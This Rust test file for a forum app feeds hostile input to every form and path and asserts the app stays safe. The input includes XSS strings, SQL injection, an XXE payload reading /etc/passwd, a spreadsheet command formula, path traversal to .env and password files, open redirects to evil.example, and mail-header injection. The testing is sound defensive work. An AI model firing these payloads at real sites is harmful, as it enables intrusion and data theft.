//! Hostile input through every door: the right status, a sentence, the words kept, nothing half written.

use actix_web::test::TestRequest;
use bandstand::schema::{posts, threads, users};
use diesel::prelude::*;

use crate::both;
use crate::world::{Answer, Browser, FORM, ORIGIN, World, encoded, on_site};

/// Texts that try to become code: HTML, Markdown, BBCode and addresses.
const SCRIPTS: &[&str] = &[
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<script\n>alert(1)</script\n>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"x\"onerror=\"alert(1)\">",
    "<img/src/onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src onerror=alert(1)>",
    "<iframe srcdoc=\"<script>alert(1)</script>\">",
    "<object data=javascript:alert(1)>",
    "<embed src=//evil.example>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content=\"0;url=//evil.example\">",
    "<link rel=stylesheet href=//evil.example>",
    "<form action=//evil.example><input name=password><button>",
    "<button formaction=javascript:alert(1)>",
    "<style>*{x:expression(alert(1))}</style>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=\"java\tscript:alert(1)\">x</a>",
    "<textarea></textarea><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "<!--><script>alert(1)</script>-->",
    "]]><script>alert(1)</script>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#115;cript:alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](\u{1}javascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox)",
    "[x](//evil.example)",
    "[x](<javascript:alert(1)>)",
    "[x]: javascript:alert(1)\n[x]",
    "![x](javascript:alert(1))",
    "![x\" onerror=\"alert(1)](https://a.example/x)",
    "![](data:image/svg+xml,<svg/onload=alert(1)>)",
    "<javascript:alert(1)>",
    "<https://a.example/\"onmouseover=\"alert(1)>",
    "https://a.example/\"onmouseover=alert(1)",
    "[a](https://a.example \"x\" onclick=alert(1))",
    "[url=javascript:alert(1)]x[/url]",
    "[img]x\" onerror=\"alert(1)[/img]",
    "[quote=\"\"><script>alert(1)</script>\" post=1]x[/quote]",
    "[quote=\"a\" post=1\" onclick=alert(1)]x[/quote]",
    "[spoiler=\"<img src=x onerror=alert(1)>\"]x[/spoiler]",
    "||<script>alert(1)</script>||",
    "```html\"onload=alert(1)\n<script>alert(1)</script>\n```",
    "`<script>alert(1)</script>`",
    "| <script>alert(1)</script> |\n|---|",
    "@<script>alert(1)</script>",
    ":\"><script>alert(1)</script>:",
    "{{ 7*7 }} {% raw %} ${7*7} <%= 7*7 %>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\u{feff}<script>alert(1)</script>",
    "＜script＞alert(1)＜/script＞",
];

/// Fails where a browser would run something, load from elsewhere or send words there.
fn assert_harmless(answer: &Answer, what: &str) {
    let page = scraper::Html::parse_document(&answer.body);
    for element in page.root_element().descendants().filter_map(|node| node.value().as_element()) {
        let name = element.name();
        let own =
            |attribute: &str| element.attr(attribute).is_some_and(|value| value.starts_with("/assets/"));
        match name {
            "script" => assert!(own("src"), "{what}: a script"),
            "link" => {
                let canonical = element.attr("rel") == Some("canonical")
                    && element.attr("href").is_some_and(|to| host_of(to) == "127.0.0.1");
                assert!(own("href") || canonical, "{what}: a link element");
            }
            "iframe" | "object" | "embed" | "base" | "style" | "math" | "frame" | "applet" => {
                panic!("{what}: <{name}>")
            }
            "form" => assert!(
                element.attr("action").is_some_and(|to| to.starts_with('/') && !to.starts_with("//")),
                "{what}: a form"
            ),
            _ => {}
        }
        for (attribute, value) in element.attrs() {
            assert!(
                !attribute.starts_with("on") && attribute != "style" && attribute != "srcdoc",
                "{what}: {attribute}={value}"
            );
            let plain: String = value
                .chars()
                .filter(|c| !c.is_control() && !c.is_whitespace())
                .collect::<String>()
                .to_lowercase();
            if matches!(attribute, "href" | "src" | "action" | "formaction" | "xlink:href" | "data") {
                let leads =
                    ["javascript:", "vbscript:", "data:", "//"].iter().any(|bad| plain.starts_with(bad));
                assert!(!leads, "{what}: {attribute}={value}");
                assert!(
                    matches!(name, "a" | "link") || plain.starts_with(['/', '#', '?']),
                    "{what}: <{name}> loads {value}"
                );
            }
            assert!(attribute != "http-equiv", "{what}: http-equiv");
        }
    }
}

fn text_of(answer: &Answer) -> String {
    let page = scraper::Html::parse_document(&answer.body);
    let field = scraper::Selector::parse("textarea[name=body]").expect("a selector");
    page.select(&field).next().map(|field| field.text().collect()).unwrap_or_default()
}

async fn thread(world: &World<'_>, browser: &Browser) -> i64 {
    let fields = [("title", "A place for hostile words"), ("body", "Words."), ("key", "place")];
    browser.post("/boards/android/threads", &fields).await.is(303);
    world.thread("A place for hostile words")
}

fn counts(world: &World<'_>) -> [i64; 3] {
    let mut conn = world.conn();
    let users = users::table.count().get_result(&mut conn);
    let threads = threads::table.count().get_result(&mut conn);
    [users, threads, posts::table.count().get_result(&mut conn)].map(|count| count.expect("a count"))
}

/// Where a browser at our address would go.
fn host_of(location: &str) -> String {
    let base = url::Url::parse(ORIGIN).expect("our address");
    base.join(location).ok().and_then(|url| url.host_str().map(str::to_owned)).unwrap_or_default()
}

both! {
    fn no_words_become_code(db) {
        on_site(db, async |world| {
            let mirelle = world.member("mirelle").await;
            let id = thread(&world, &mirelle).await;
            for (at, words) in SCRIPTS.iter().enumerate() {
                let preview = mirelle.post("/preview", &[("body", words)]).await.is(200);
                assert_harmless(&preview, words);
                let key = format!("key{at}");
                let posted = mirelle.post(&format!("/threads/{id}/posts"), &[("body", words), ("key", &key)]).await.is(303);
                assert_eq!(host_of(&posted.location), "127.0.0.1");
                // A refused form gives the words back as words, in every field.
                let fields = [("title", *words), ("body", ""), ("tags", *words), ("key", *words), ("label", *words)];
                let refused = mirelle.post("/boards/android/threads", &fields).await.is(422);
                assert_harmless(&refused, words);
                let about = [("display_name", *words), ("pronouns", *words), ("about", *words), ("theme", *words), ("density", "x"), ("zone", *words)];
                assert_harmless(&mirelle.post("/settings", &about).await.is(422), words);
                let search = format!("/search?{}", encoded(&[("q", words)]));
                assert_harmless(&mirelle.get(&search).await.is(200), words);
            }
            // The names alone: every try at a password costs a hash.
            for words in SCRIPTS.iter().step_by(8) {
                let door = world.guest().post("/login", &[("who", words), ("password", words), ("next", words)]).await.is(422);
                assert_harmless(&door, words);
            }
            for (at, words) in SCRIPTS.iter().enumerate().filter(|(_, words)| !words.contains('\n') && words.chars().count() <= 150) {
                let key = format!("title{at}");
                let fields = [("title", *words), ("body", *words), ("tags", "a,<b>,\"c"), ("key", &key)];
                let posted = mirelle.post("/boards/android/threads", &fields).await.is(303);
                assert_eq!(host_of(&posted.location), "127.0.0.1");
                assert_harmless(&mirelle.get(&posted.location).await.is(200), words);
            }
            let all = SCRIPTS.iter().take(30).copied().collect::<Vec<_>>().join("\n\n");
            let about = [("display_name", "<b onclick=alert(1)>"), ("about", &all), ("theme", "auto"), ("density", "compact"), ("zone", "UTC")];
            mirelle.post("/settings", &about).await.is(303);
            world.work_off().await;
            let whole = world.guest().get(&format!("/threads/{id}")).await.is(308).location;
            for page in [&whole, &format!("{whole}?page=2"), &format!("{whole}?page=3"), "/", "/boards/android", "/members/mirelle", "/members", "/search?q=script", "/search?q=alert", "/areas/help"] {
                assert_harmless(&world.guest().get(page).await.is(200), page);
                assert_harmless(&mirelle.get(page).await.is(200), page);
            }
        });
    }

    fn strange_words_come_back_as_they_were(db) {
        on_site(db, async |world| {
            let mirelle = world.member("mirelle").await;
            let id = thread(&world, &mirelle).await;
            let strange = [
                "Robert'); DROP TABLE posts;--", "1' OR '1'='1", "100% _sure_ \\ \\\\ %s %d {0}", "null undefined NaN nil None", "-1", "0", "=cmd|' /C calc'!A0",
                "𝕿𝖍𝖊 quick ﷽ brown 👩‍👩‍👧‍👦 fox", "ﷺ مرحبا שלום", "¯\\_(ツ)_/¯", "田中さんにあげて下さい", "Ω≈ç√∫˜µ≤≥÷", "\u{200f}test\u{200f}", "<\t>\ttabs\tin\tit", "a\n\n\n\nb", "&amp;&lt;&gt;&quot;&#39;",
            ];
            for (at, words) in strange.iter().enumerate() {
                let key = format!("strange{at}");
                mirelle.post(&format!("/threads/{id}/posts"), &[("body", words), ("key", &key)]).await.is(303);
                let edit = mirelle.get(&format!("/posts/{}/edit", world.last_post(id))).await.is(200);
                assert_eq!(text_of(&edit), *words);
            }
            let zalgo = format!("Z{}algo", "\u{0351}".repeat(500));
            for words in [zalgo.as_str(), "\u{202e}\u{202e}desrever", "a\u{0}b", "\u{b}\u{c}", "\u{1b}[31mred"] {
                let answer = mirelle.post(&format!("/threads/{id}/posts"), &[("body", words), ("key", "control")]).await;
                assert!(matches!(answer.status, 303 | 400 | 422), "{words:?}: {}", answer.status);
            }
        });
    }

    fn names_that_deceive_are_refused_with_the_words_kept(db) {
        on_site(db, async |world| {
            let guest = world.guest();
            let before = counts(&world);
            let long = "a".repeat(300);
            let names = [
                "ad\u{202e}min", "a\u{200b}nn", "ann\u{2066}", "z\u{0351}\u{0352}\u{0353}\u{0354}algo", "\u{0430}dmin", "admin", "ADMIN", "Administrator", "moderator", "Tempo", "tempo-staff", "T\u{0435}mpo",
                "mirelle", "MIRELLE", "m\u{0456}relle", "mirel\u{217c}e", "ｍｉｒｅｌｌｅ", "", "  ", "a", "<script>", "../../etc", "a/b", "a\\b", "ann lee", "ann\r\nBcc: x@y.example", "ann\nlee", "me@example.org", "\u{1f600}\u{1f600}", "null", long.as_str(), "...", "-ann-",
            ];
            for name in names {
                let form = [("username", name), ("email", "deceiver@example.org"), ("password", "teal-harmonium-garden-61")];
                let answer = guest.post("/register", &form).await.is(422);
                assert!(answer.words().contains("to put right"), "{name:?}: {}", answer.words());
                assert_eq!(answer.field("email").as_deref(), Some("deceiver@example.org"), "{name:?}");
                assert!(!answer.body.contains("teal-harmonium"));
                assert_harmless(&answer, name);
            }
            let mirelle = world.member("mirelle").await;
            for name in ["Ravi_M", "R\u{0430}vi_M", "Moderator", "Tempo Star", "\u{202e}", "a\u{0}"] {
                let about = [("display_name", name), ("about", ""), ("theme", "auto"), ("density", "compact"), ("zone", "UTC")];
                let answer = mirelle.post("/settings", &about).await;
                assert!(matches!(answer.status, 422 | 400), "{name:?}: {}", answer.status);
            }
            assert_eq!(counts(&world), before);
        });
    }

    fn bodies_that_are_no_forms_are_refused(db) {
        on_site(db, async |world| {
            let mirelle = world.member("mirelle").await;
            let id = thread(&world, &mirelle).await;
            let token = mirelle.token().await;
            let path = format!("/threads/{id}/posts");
            let before = counts(&world);
            let good = format!("csrf={token}&key=k&body=Hello");
            for (kind, body) in [
                ("application/json", "{\"body\":\"Hello\"}"), ("text/plain", good.as_str()), ("", good.as_str()), ("multipart/form-data", good.as_str()), ("text/xml", "<!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]><a>&b;</a>"),
            ] {
                let request = TestRequest::post().uri(&path).insert_header(("origin", ORIGIN)).insert_header(("content-type", kind));
                mirelle.send(request.set_payload(body.to_owned())).await.is(400);
            }
            let many: String = (0..300).map(|at| format!("&f{at}=x")).collect();
            for body in ["&body=%FF", "&body=%C0%AF", "&body=%ED%A0%80", "&body=a%00", "&%00=a", "&body=a&body=b", "&csrf=x", many.as_str()] {
                mirelle.post_body(&path, &format!("csrf={token}&key=k{body}")).await.is(400);
            }
            for body in ["%", "%%%", "%zz", "a%2", "+", "=&=&="] {
                let answer = mirelle.post_body(&path, &format!("csrf={token}&key=&body={body}")).await;
                assert!(matches!(answer.status, 303 | 422 | 400), "{body}: {}", answer.status);
            }
            let written = counts(&world)[2] - before[2];
            assert!(written <= 5, "{written} posts");
            // A form in another's name, by a method that is not one.
            for method in ["PUT", "DELETE", "PATCH", "TRACE", "BREW"] {
                let method = actix_web::http::Method::from_bytes(method.as_bytes()).expect("a method");
                let request = TestRequest::default().method(method).uri(&path).insert_header(("content-type", FORM));
                mirelle.send(request.set_payload(good.clone())).await.is(400);
            }
        });
    }

    fn no_path_leads_to_another_file(db) {
        on_site(db, async |world| {
            let mirelle = world.member("mirelle").await;
            for path in [
                "/assets/../Cargo.toml", "/assets/..%2fCargo.toml", "/assets/..%2f..%2f..%2f..%2fetc%2fpasswd", "/assets/%2e%2e/%2e%2e/etc/passwd", "/assets//etc/passwd", "/assets/%2fetc%2fpasswd", "/assets/..%5c..%5cetc", "/assets/....//....//etc/passwd", "/assets/.%00./x", "/assets/%c0%ae%c0%ae/etc/passwd", "/assets/icons.svg/../../Cargo.toml", "/assets/.", "/assets/",
                "/attachments/..%2f..%2flogins.json", "/attachments/../logins.json", "/attachments/%2e%2e%2flogins.json", "/attachments/..", "/attachments/.png", "/attachments/0123456789abcdef0123456789abcdef", "/attachments/0123456789abcdef0123456789abcde%2f.png", "/attachments/..%5clogins.json", "/attachments/0123456789abcdef0123456789abcdef.png%00.html",
                "/avatars/..%2flogins.json", "/avatars/%2e%2e%2fsecret.png", "/avatars/../test.sqlite", "/avatars/..%2f..%2fetc%2fpasswd.png", "/avatars/.png", "/logins.json", "/secret.key", "/test.sqlite", "/.git/config", "/.env", "/data/test.sqlite",
            ] {
                for browser in [&world.guest(), &mirelle] {
                    let answer = browser.get(path).await;
                    assert!(matches!(answer.status, 400 | 404 | 308), "{path}: {}", answer.status);
                    if answer.status == 308 {
                        assert_eq!(host_of(&answer.location), "127.0.0.1", "{path}");
                    }
                    for secret in ["[package]", "root:", "\"password\"", "SQLite format"] {
                        assert!(!answer.body.contains(secret), "{path} shows {secret}");
                    }
                }
            }
        });
    }

    fn nobody_is_led_to_another_site(db) {
        on_site(db, async |world| {
            let mirelle = world.member("mirelle").await;
            let password = world.password("mirelle");
            for next in [
                "//evil.example", "///evil.example", "////evil.example", "https://evil.example", "http:evil.example", "https:/evil.example", "/\\evil.example", "\\\\evil.example", "\\/evil.example", "/%2fevil.example", "/%2F/evil.example", "/%5cevil.example", "\t//evil.example", "/\t/evil.example", "/\n/evil.example", "/\r\nSet-Cookie: a=b", " //evil.example",
                "javascript:alert(1)", "data:text/html,x", "evil.example", "@evil.example", "/@evil.example", "/.evil.example", "/..//evil.example", "/.//evil.example", "//127.0.0.1:8080@evil.example", "//evil.example\\@127.0.0.1:8080", "/\u{2028}/evil.example", "/\u{200b}/evil.example", "?next=//evil.example", "#", "", "/login?next=//evil.example",
            ] {
                let question = encoded(&[("next", next)]);
                let gone = mirelle.get(&format!("/login?{question}")).await.is(303);
                assert_eq!(host_of(&gone.location), "127.0.0.1", "{next:?}: {}", gone.location);
                assert!(gone.location.starts_with('/'), "{next:?}: {}", gone.location);
                let theme = mirelle.post("/theme", &[("theme", "dark"), ("next", next)]).await.is(303);
                assert_eq!(host_of(&theme.location), "127.0.0.1", "{next:?}: {}", theme.location);
                let guest = world.guest();
                assert_harmless(&guest.get(&format!("/login?{question}")).await.is(200), next);
                let entered = guest.post("/login", &[("who", "mirelle"), ("password", &password), ("next", next)]).await.is(303);
                assert_eq!(host_of(&entered.location), "127.0.0.1", "{next:?}: {}", entered.location);
                assert!(!entered.headers.contains_key("a") && !entered.header("set-cookie").starts_with("a="));
            }
            for path in ["//evil.example/", "//evil.example//", "/\\evil.example/", "///evil.example/", "//EVIL.example/x/", "/%2f%2fevil.example/", "/.//evil.example/", "/LOGIN//", "//evil.example/%2e%2e/"] {
                let answer = world.guest().get(path).await;
                assert!(answer.status < 500, "{path}");
                assert_eq!(host_of(&answer.location), "127.0.0.1", "{path}: {}", answer.location);
            }
            let request = TestRequest::post().uri("/drafts").insert_header(("referer", "https://evil.example//evil.example/x"));
            let answer = world.guest().send(request.insert_header(("content-type", FORM))).await.is(303);
            assert_eq!(host_of(&world.guest().get(&answer.location).await.is(200).location), "127.0.0.1");
        });
    }

    fn another_host_is_not_ours(db) {
        on_site(db, async |world| {
            let guest = world.guest();
            for host in ["evil.example", "127.0.0.1:8080@evil.example", "127.0.0.1:8080.evil.example", "127.0.0.1:8080, evil.example", "", "evil.example:8080", "[::1", "localhost.evil.example", "127.0.0.1.evil.example:80", "xn--e1afmkfd"] {
                for path in ["/", "/login", "/forgot", "/threads/1"] {
                    let answer = guest.send_to(host, TestRequest::get().uri(path)).await;
                    assert!(matches!(answer.status, 421 | 400), "{host}{path}: {}", answer.status);
                    assert!(!answer.body.contains("evil.example"), "{host}{path}");
                }
            }
            // What a proxy might say is not believed, and letters name our own address alone.
            let token = guest.token().await;
            let body = encoded(&[("csrf", token.as_str()), ("email", "mirelle@example.org")]);
            let mut request = TestRequest::post().uri("/forgot").insert_header(("content-type", FORM)).insert_header(("origin", ORIGIN));
            for name in ["x-forwarded-host", "x-host", "forwarded", "x-original-url", "x-rewrite-url", "x-forwarded-server"] {
                request = request.insert_header((name, "evil.example"));
            }
            guest.send(request.set_payload(body)).await.is(200);
            world.work_off().await;
            let letters = world.letters("mirelle@example.org");
            assert!(!letters.is_empty() && letters.iter().all(|letter| !letter.contains("evil")), "{letters:?}");
        });
    }

    fn no_line_break_begins_a_header(db) {
        on_site(db, async |world| {
            let guest = world.guest();
            for tail in ["\r\nBcc: eve@evil.example", "\nBcc: eve@evil.example", "\rBcc: eve@evil.example", "%0d%0aBcc: eve@evil.example", ", eve@evil.example", ";eve@evil.example", " eve@evil.example", "\u{2028}Bcc: eve@evil.example", "<eve@evil.example>", "\" eve@evil.example"] {
                let address = format!("ann@example.org{tail}");
                guest.post("/forgot", &[("email", &address)]).await.is(422);
                let form = [("username", "ann-lee-fox"), ("email", address.as_str()), ("password", "teal-harmonium-garden-61")];
                guest.post("/register", &form).await.is(422);
            }
            let mirelle = world.member("mirelle").await;
            let password = world.password("mirelle");
            mirelle.post("/settings/email", &[("email", "a@example.org\r\nBcc: eve@evil.example"), ("password", &password)]).await.is(422);
            let title = [("title", "A title\r\nSet-Cookie: a=b"), ("body", "Words."), ("key", "crlf")];
            let posted = mirelle.post("/boards/android/threads", &title).await;
            assert!(matches!(posted.status, 303 | 422) && !posted.header("set-cookie").contains("a=b"), "{}", posted.status);
            guest.post("/forgot", &[("email", "mirelle@example.org")]).await.is(200);
            world.work_off().await;
            for entry in std::fs::read_dir(world.folder().join("mail")).expect("letters") {
                let letter = std::fs::read_to_string(entry.expect("an entry").path()).expect("a letter");
                let (head, _) = letter.split_once("\r\n\r\n").expect("a head");
                assert!(!head.contains("evil.example") && !head.to_lowercase().contains("bcc:"), "{head}");
            }
        });
    }

    fn searching_for_syntax_finds_words(db) {
        on_site(db, async |world| {
            let guest = world.guest();
            let many = "shuffle ".repeat(2_000);
            let brackets = "(".repeat(500);
            for q in [
                "'", "''", "\"", "\"\"", "\"shuffle", "shuffle\"", "`", "\\", "\\'", "%", "_", "*", "shuffle*", "*shuffle", "^shuffle", "-shuffle", "--", "- -", "+", "NEAR(", "NEAR(a b, 5)", "AND", "OR", "NOT", "a AND", "AND b", "a OR OR b", "title:shuffle", "body:", "rowid:1", "col:", "(", ")", "()", ")(", "((a)", "{a b}", "a:*", "a & b", "a | b", "!a", "a <-> b", "a <2> b", "<->", ":*", "::", ":",
                "' OR 1=1 --", "'; DROP TABLE users;--", "1 UNION SELECT password_hash FROM users", "$1", "?1", ":name", "@name", "board:", "board:nowhere", "author:'", "author:%", "tag:\"", "before:x", "after:9999-99-99", "before:-1", "is:", "is:nothing", "label:\u{202e}", "\u{200b}", "\u{1f3b5}", "あ", "音楽 *", "a\tb", "a\u{a0}b", "\u{feff}", "\u{10ffff}", many.as_str(), brackets.as_str(),
            ] {
                for rest in ["", "&sort=newest", "&type=members"] {
                    let path = format!("/search?{}{rest}", encoded(&[("q", q)]));
                    let answer = guest.get(&path).await;
                    assert_eq!(answer.status, 200, "{:?}{rest}", q.chars().take(60).collect::<String>());
                }
            }
            for filter in ["label", "tag", "status", "sort", "after", "tab", "answered"] {
                for value in ["'", "1' OR '1'='1", "\"", "%", "\\", "-1", "1.1", "9223372036854775808.1", "a.b", ".", "\u{202e}", "<script>"] {
                    for path in ["/boards/android", "/members", "/areas/help", "/"] {
                        let path = format!("{path}?{}", encoded(&[(filter, value)]));
                        let answer = guest.get(&path).await;
                        assert!(answer.status < 500, "{path}: {}", answer.status);
                        assert_harmless(&answer, &path);
                    }
                }
            }
        });
    }
}
